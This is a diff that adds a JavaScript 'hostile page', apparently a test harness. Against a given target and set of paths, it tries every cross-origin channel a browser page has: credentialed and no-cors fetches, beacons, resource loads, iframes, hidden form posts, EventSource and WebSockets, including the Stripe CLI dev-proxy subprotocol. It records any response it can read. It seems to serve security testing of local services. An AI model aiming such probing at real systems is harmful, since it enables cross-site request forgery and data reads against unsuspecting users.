@@ -1,0 +1,103 @@
+// A hostile page: sends a server everything that a page can send to another origin, and returns what it could read.
+"use strict";
+
+const GIVE_UP_AFTER = 5000; // ms
+
+const readable = async (answer) => (answer.ok ? (await answer.text()) || "an empty body" : "");
+
+const bodiesOf = (fields) => {
+  const form = new FormData();
+  for (const [name, value] of Object.entries(fields)) form.set(name, value);
+  return { "urlencoded": new URLSearchParams(fields), "multipart": form, "text": JSON.stringify(fields) };
+};
+
+const loads = (element, address) =>
+  new Promise((done) => {
+    element.onload = () => done("loaded");
+    element.onerror = () => done("");
+    element[element.tagName === "LINK" ? "href" : "src"] = address;
+    document.body.append(element);
+  }).finally(() => element.remove());
+
+const framed = (frame, go) =>
+  new Promise((done) => {
+    document.body.append(frame); // its empty page is loaded by then
+    frame.onload = () => done(frame.contentDocument?.body.textContent ?? "");
+    go();
+  }).finally(() => frame.remove());
+
+const newForm = (address, fields, type) => {
+  const form = document.createElement("form");
+  Object.assign(form, { method: "POST", action: address, enctype: type });
+  for (const [name, value] of Object.entries(fields)) {
+    const input = document.createElement("input");
+    Object.assign(input, { type: "hidden", name, value });
+    form.append(input);
+  }
+  document.body.append(form);
+  return form;
+};
+
+const posted = (address, fields, type) => {
+  const frame = document.createElement("iframe");
+  frame.name = `frame-${Math.random()}`;
+  const form = newForm(address, fields, type);
+  form.target = frame.name;
+  return framed(frame, () => form.submit()).finally(() => form.remove());
+};
+
+const connected = (socket) =>
+  new Promise((done) => {
+    socket.onopen = () => done("open");
+    socket.onerror = () => done("");
+  }).finally(() => socket.close());
+
+// Each way returns what it has read, or "".
+const waysTo = (address, fields) => {
+  const json = { "Content-Type": "application/json" };
+  const ways = {
+    "fetch": () => fetch(address).then(readable),
+    "fetch with cookies": () => fetch(address, { credentials: "include" }).then(readable),
+    "fetch with a key": () => fetch(address, { headers: { Authorization: "Bearer sk_test_hostile" } }).then(readable),
+    "opaque fetch": () => fetch(address, { mode: "no-cors" }).then(readable),
+    "image": () => loads(new Image(), address),
+    "script": () => loads(document.createElement("script"), address),
+    "style sheet": () => loads(Object.assign(document.createElement("link"), { rel: "stylesheet" }), address),
+    "frame": () => {
+      const frame = document.createElement("iframe");
+      return framed(frame, () => { frame.src = address; });
+    },
+    "event source": () => connected(new EventSource(address)),
+    "web socket": () => connected(new WebSocket(address.replace("http", "ws"))),
+    "web socket of the Stripe CLI": () => connected(new WebSocket(address.replace("http", "ws"), "stripecli-devproxy-v1")),
+  };
+  for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
+    ways[`${method} json`] = () => fetch(address, { method, headers: json, body: JSON.stringify(fields) }).then(readable);
+  }
+  for (const [type, body] of Object.entries(bodiesOf(fields))) {
+    ways[`POST ${type}`] = () => fetch(address, { method: "POST", body }).then(readable);
+    ways[`opaque POST ${type}`] = () =>
+      fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).then(readable);
+    ways[`beacon ${type}`] = async () => { navigator.sendBeacon(address, body); return ""; };
+  }
+  for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
+    ways[`form ${type}`] = () => posted(address, fields, type);
+  }
+  return ways;
+};
+
+const attack = async (target, paths, fields) => {
+  const read = [];
+  for (const path of paths) {
+    await Promise.all(
+      Object.entries(waysTo(target + path, fields)).map(async ([way, send]) => {
+        const late = new Promise((done) => setTimeout(() => done(""), GIVE_UP_AFTER));
+        const found = await Promise.race([send(), late]).catch(() => "");
+        if (found) read.push([way, path, found.slice(0, 200)]);
+      }),
+    );
+  }
+  return read;
+};
+
+const submitForm = (address, fields) => newForm(address, fields, "application/x-www-form-urlencoded").submit();
